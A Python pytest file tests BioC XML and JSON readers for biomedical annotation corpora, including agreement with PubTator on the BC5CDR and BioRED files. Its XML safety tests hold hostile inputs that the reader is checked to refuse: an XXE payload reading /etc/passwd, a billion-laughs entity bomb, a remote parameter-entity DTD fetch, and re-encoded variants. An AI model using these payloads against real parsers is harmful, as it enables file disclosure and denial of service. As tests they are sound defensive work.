"""BioC XML and JSON readers: structure, options, XML safety, and agreement with PubTator on real files."""

from __future__ import annotations

import json as json_module
from collections import Counter

import pytest

from medinst_core.errors import SourceError
from medinst_core.readers.bioc import read_bioc_json, read_bioc_xml
from medinst_core.readers.pubtator import read_pubtator
from medinst_core.records import Normalization

from ._util import FIXTURES, run, unsourced

XML = FIXTURES / "small.bioc.xml"
JSON = FIXTURES / "small.bioc.json"


@pytest.mark.parametrize("reader, path", [(read_bioc_xml, XML), (read_bioc_json, JSON)])
def test_structure(reader, path):
    d1, d2 = run(reader, {"data": path}, {"db_name": "MESH"})
    assert (d1.id, d2.id) == ("D1", "D2")
    assert [(p.id, p.type, p.offsets) for p in d1.passages] == [
        ("P0", "title", ((0, 52),)),
        ("P1", "abstract", ((53, 93),)),
    ]
    # a sentence-level passage: sentences placed at their offsets
    assert d1.passages[1].text == "Lithium was stopped.  Recovery followed."
    assert [e.id for e in d1.entities] == ["a", "b", "c", "d", "e"]
    a, b = d1.entities[0], d1.entities[1]
    assert a.normalized == (Normalization("MESH", "D006333"), Normalization("MESH", "D051437"))
    assert a.attributes == (("CompositeRole", "CompositeMention"),)
    assert b.offsets == ((0, 7), (18, 25)) and b.text == ("Cardiac", "failure")
    (cid,) = d1.concept_relations
    assert (cid.id, cid.type, cid.arg1_id, cid.arg2_id, cid.attributes) == ("R1", "CID", "D002945", "D051437", ())
    (m,) = d1.relations
    assert (m.type, m.arg1_id, m.arg2_id, m.attributes) == ("treats", "e", "a", (("arg1_role", "agent"),))
    assert d2.passages[0].type == "passage" and d2.entities == ()


def test_xml_and_json_agree_under_every_option():
    for options in [
        {},
        {"entity_ids": "position", "individual_mentions": "fold", "expand_relations": True},
        {"individual_mentions": "drop", "infon_attributes": False, "db_name": "MESH"},
        {"skip_annotations": {"type": "Chemical"}, "passage_types": ["t", "a"]},
    ]:
        assert unsourced(run(read_bioc_xml, {"data": XML}, options)) == unsourced(run(read_bioc_json, {"data": JSON}, options))


def test_relations_to_skipped_annotations_are_dropped_but_unknown_ones_are_errors(tmp_path):
    (d1, _) = run(read_bioc_xml, {"data": XML}, {"skip_annotations": {"type": "Chemical"}})
    assert [e.id for e in d1.entities] == ["a", "b", "c"]
    assert d1.relations == ()
    bad = tmp_path / "x.xml"
    bad.write_text(XML.read_text().replace('refid="e"', 'refid="zz"'))
    with pytest.raises(SourceError, match="unknown annotation 'zz'"):
        run(read_bioc_xml, {"data": bad})


def test_fold_positions_and_expansion():
    (d1, _) = run(read_bioc_xml, {"data": XML}, {"entity_ids": "position", "individual_mentions": "fold", "expand_relations": True})
    assert [e.id for e in d1.entities] == ["0", "1", "2"]
    assert d1.entities[0].attributes == (
        ("CompositeRole", "CompositeMention"),
        ("IndividualMentions", "Cardiac failure|renal failure"),
    )
    # the node relation is remapped to positional ids; CID expands to cisplatin -> the composite
    assert [(r.id, r.arg1_id, r.arg2_id) for r in d1.relations] == [("M1", "2", "0"), ("R1.0", "1", "0")]


def test_passage_types_by_position_for_untyped_passages(tmp_path):
    path = tmp_path / "x.json"
    path.write_text('{"documents": [{"id": "1", "passages": [{"offset": 0, "text": "T"}, {"offset": 2, "text": "A"}]}]}')
    (r,) = run(read_bioc_json, {"data": path}, {"passage_types": ["title", "abstract"]})
    assert [p.type for p in r.passages] == ["title", "abstract"]
    assert r.text == "T A"


def test_joined_passage_offsets(tmp_path):
    path = tmp_path / "x.xml"
    path.write_text(
        "<collection><document><id>1</id>"
        "<passage><offset>0</offset><text>It&apos;s</text></passage>"
        "<passage><offset>12</offset><text>Body</text>"
        "<annotation id='0'><infon key='type'>X</infon><location offset='5' length='4'/><text>Body</text></annotation>"
        "</passage></document></collection>"
    )
    with pytest.raises(SourceError, match="annotated as 'Body'"):
        run(read_bioc_xml, {"data": path})
    (r,) = run(read_bioc_xml, {"data": path}, {"passage_offsets": "joined"})
    assert r.passages[1].offsets == ((5, 9),) and r.entities[0].text == ("Body",)


XXE = """<?xml version="1.0"?>
<!DOCTYPE collection [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<collection><document><id>&xxe;</id></document></collection>
"""
BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<collection><document><id>&lol3;</id></document></collection>
"""
PARAMETER = """<?xml version="1.0"?>
<!-- a comment <collection> before the DOCTYPE -->
<!DOCTYPE collection [ <!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote; ]>
<collection/>
"""


@pytest.mark.parametrize("content", [XXE, BOMB, PARAMETER])
def test_entity_declarations_are_refused(tmp_path, content):
    path = tmp_path / "evil.xml"
    path.write_text(content)
    with pytest.raises(SourceError, match="entity declarations are refused"):
        run(read_bioc_xml, {"data": path})


def test_entity_declarations_in_utf16_are_refused(tmp_path):
    path = tmp_path / "evil16.xml"
    path.write_bytes(XXE.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"))
    with pytest.raises(SourceError, match="entity declarations are refused"):
        run(read_bioc_xml, {"data": path})


def test_undefined_entity_reference_is_a_parse_error(tmp_path):
    path = tmp_path / "x.xml"
    path.write_text('<!DOCTYPE collection SYSTEM "BioC.dtd"><collection><document><id>&ext;</id></document></collection>')
    with pytest.raises(SourceError, match="malformed XML"):
        run(read_bioc_xml, {"data": path})


@pytest.mark.parametrize(
    "content, fragment",
    [
        ("<collection><document><id>1</id><passage><offset>x</offset><text>T</text></passage></document></collection>",
         "expected an integer passage offset"),
        ("<collection><document><id>1</id><passage><offset>0</offset><text>T</text>"
         "<annotation id='0'><location offset='0' length='1'/></annotation></passage></document></collection>",
         "has no 'type' infon"),
        ("<collection><document><id>1</id><passage><offset>0</offset><text>T</text>"
         "<annotation id='0'><infon key='type'>X</infon></annotation></passage></document></collection>",
         "has no location"),
        ("<collection><document><id>1</id><relation id='r'><infon key='type'>X</infon></relation></document></collection>",
         "has no nodes and none of the argument infon pairs"),
        ("<collection><document><id>1</id></document><document><id>1</id></document></collection>", "occurs twice"),
        ("<collection><document><id>1</id>", "malformed XML"),
        ("<corpus/>", "expected a BioC <collection>"),
        ("<collection><document></document></collection>", "has no <id>"),
    ],
)
def test_malformed_xml(tmp_path, content, fragment):
    path = tmp_path / "x.xml"
    path.write_text(content)
    with pytest.raises(SourceError) as info:
        run(read_bioc_xml, {"data": path})
    assert fragment in str(info.value)


@pytest.mark.parametrize(
    "content, fragment",
    [
        ('{"documents": [{"id": "1", "passages": [{"offset": "x"}]}]}', "expected an integer passage offset"),
        ('{"documents": {"id": "1"}}', "expected 'documents' to be a list"),
        ('{"documents": [{"id": "1", "passages": [{"offset": 0, "text": 5}]}]}', "expected 'text' to be a string"),
        ('{"documents": [', "invalid JSON in 'documents' element 0"),
        ('{"source": "x"}', "'documents' list"),
    ],
)
def test_malformed_json(tmp_path, content, fragment):
    path = tmp_path / "x.json"
    path.write_text(content)
    with pytest.raises(SourceError) as info:
        run(read_bioc_json, {"data": path})
    assert fragment in str(info.value)


# ---------------------------------------------------------------------------
# Real files
# ---------------------------------------------------------------------------

BC5CDR_SAME = {"db_name": "MESH", "expand_relations": True}
BC5CDR_BIOC = {**BC5CDR_SAME, "individual_mentions": "fold", "entity_ids": "position", "passage_offsets": "joined"}


def test_bc5cdr_pubtator_and_bioc_xml_give_identical_records(shared_data):
    folder = shared_data / "BC5CDR"
    pubtator = run(read_pubtator, {"data": folder / "CDR_DevelopmentSet.PubTator.txt"}, BC5CDR_SAME)
    bioc = run(read_bioc_xml, {"data": folder / "CDR_DevelopmentSet.BioC.xml"}, BC5CDR_BIOC)
    assert len(pubtator) == 500
    assert unsourced(pubtator) == unsourced(bioc)


def test_bc5cdr_bioc_totals_counted_in_the_xml(shared_data):
    path = shared_data / "BC5CDR/CDR_DevelopmentSet.BioC.xml"
    text = path.read_text(encoding="utf-8")
    annotations = text.count("<annotation ")
    individual = text.count('<infon key="CompositeRole">IndividualMention</infon>')
    relations = text.count("<relation ")
    recs = run(read_bioc_xml, {"data": path}, {"individual_mentions": "drop", "passage_offsets": "joined"})
    assert len(recs) == text.count("<document>") == 500
    assert sum(len(r.entities) for r in recs) == annotations - individual
    assert sum(len(r.concept_relations) for r in recs) == relations


def test_biored_pubtator_bioc_xml_and_bioc_json_agree(shared_data):
    folder = shared_data / "BioRED"
    pubtator = unsourced(run(read_pubtator, {"data": folder / "Dev.PubTator"}, {"expand_relations": True}))
    xml = unsourced(run(read_bioc_xml, {"data": folder / "Dev.BioC.XML"}, {"expand_relations": True}))
    json = unsourced(
        run(read_bioc_json, {"data": folder / "Dev.BioC.JSON"}, {"expand_relations": True, "passage_types": ["title", "abstract"]})
    )
    assert len(pubtator) == 100
    assert pubtator == xml == json
    # independent totals from the JSON text
    import json as js

    data = js.loads((folder / "Dev.BioC.JSON").read_text(encoding="utf-8"))
    types = Counter(a["infons"]["type"] for d in data["documents"] for p in d["passages"] for a in p["annotations"])
    assert Counter(e.type for r in json for e in r.entities) == types
    assert sum(len(r.concept_relations) for r in json) == sum(len(d["relations"]) for d in data["documents"])


@pytest.mark.parametrize(
    "data, fragment",
    [
        (b'<?xml version="1.0" encoding="cp500"?>' + XXE.split("?>", 1)[1].encode("cp500"), "unsupported XML encoding"),
        (XXE.replace('version="1.0"', 'version="1.0" encoding="cp500"').encode("cp500"), "malformed XML"),
        (XXE.encode("utf-16-le"), "entity declarations are refused"),
        (XXE.encode("utf-32"), "UTF-32 XML is not supported"),
        (b'<?xml version="1.0" encoding="ATF-8"?><collection/>', "unsupported XML encoding"),
    ],
)
def test_encodings_that_could_hide_declarations(tmp_path, data, fragment):
    path = tmp_path / "x.xml"
    path.write_bytes(data)
    with pytest.raises(SourceError, match=fragment):
        run(read_bioc_xml, {"data": path})


def test_one_document_per_line_is_streamed_and_equal(tmp_path):
    data = json_module.loads(JSON.read_text())
    path = tmp_path / "docs.jsonl"
    path.write_text("\n".join(json_module.dumps(d) for d in data["documents"]) + "\n")
    assert unsourced(run(read_bioc_json, {"data": path})) == unsourced(run(read_bioc_json, {"data": JSON}))
    bare = tmp_path / "bare.json"
    bare.write_text(json_module.dumps(data["documents"], indent=1))
    assert unsourced(run(read_bioc_json, {"data": bare})) == unsourced(run(read_bioc_json, {"data": JSON}))
    path.write_text(path.read_text() + '{"id": "x", "passages": [\n')
    with pytest.raises(SourceError, match=r"docs.jsonl:3: expected one BioC document per line"):
        run(read_bioc_json, {"data": path})
    # a collection on one line, its documents first or last, is told from documents one per line
    for order in (["documents", "source"], ["source", "key", "documents"]):
        one_line = tmp_path / "collection.json"
        one_line.write_text(json_module.dumps({k: data.get(k, "x") for k in order}))
        assert unsourced(run(read_bioc_json, {"data": one_line})) == unsourced(run(read_bioc_json, {"data": JSON}))


def _bioc_doc(doc_id: str, title: str, mention: str, gene_id: str) -> str:
    start = title.index(mention)
    return (
        f"<document><id>{doc_id}</id><passage><infon key=\"type\">title</infon><offset>0</offset>"
        f"<text>{title}</text><annotation id=\"1\"><infon key=\"type\">Gene</infon>"
        f"<infon key=\"NCBI Gene\">{gene_id}</infon><location offset=\"{start}\" length=\"{len(mention)}\"/>"
        f"<text>{mention}</text></annotation></passage></document>"
    )


def test_one_file_per_document_and_gzip_collections(tmp_path):
    """NLM-Gene ships one BioC file per PMID (FINAL/<pmid>.BioC.XML); NLM-Chem and the BC7 CHEMDNER
    conversion ship gzip-compressed collections (.BioC.xml.gz): both are read as a split's data files."""
    import gzip

    from medinst_core.readers.bioc import read_bioc_xml
    from medinst_core.selection import select_records
    from medinst_core.sources import FileIndex

    head = '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE collection SYSTEM "BioC.dtd"><collection><source>t</source>'
    folder = tmp_path / "FINAL"
    folder.mkdir()
    for pmid, title, mention, gene in [("101", "BRCA1 loss.", "BRCA1", "672"), ("102", "No TP53 here.", "TP53", "7157"),
                                       ("103", "KRAS again.", "KRAS", "3845")]:
        (folder / f"{pmid}.BioC.XML").write_text(head + _bioc_doc(pmid, title, mention, gene) + "</collection>")
    (tmp_path / "Pmidlist.Train.txt").write_text("103\n101\n")
    files = FileIndex(tmp_path).resolve({"data": ["FINAL/*.BioC.XML"], "ids": ["Pmidlist.Train.txt"]}, what="t")
    from medinst_core.diagnostics import Diagnostics

    records = list(read_bioc_xml(files, {"id_infons": ["NCBI Gene"]}, Diagnostics()))
    assert [r.id for r in records] == ["101", "102", "103"]
    kept = list(select_records(records, {"ids": ["103", "101"]}))
    assert [(r.id, r.entities[0].normalized[0].db_id) for r in kept] == [("101", "672"), ("103", "3845")]

    gz = tmp_path / "BC7T2-NLMChem-corpus-train.BioC.xml.gz"
    gz.write_bytes(gzip.compress((head + _bioc_doc("9", "KRAS again.", "KRAS", "3845") + "</collection>").encode()))
    [record] = run(read_bioc_xml, {"data": gz}, {"id_infons": ["NCBI Gene"]})
    assert (record.id, record.entities[0].text) == ("9", ("KRAS",))
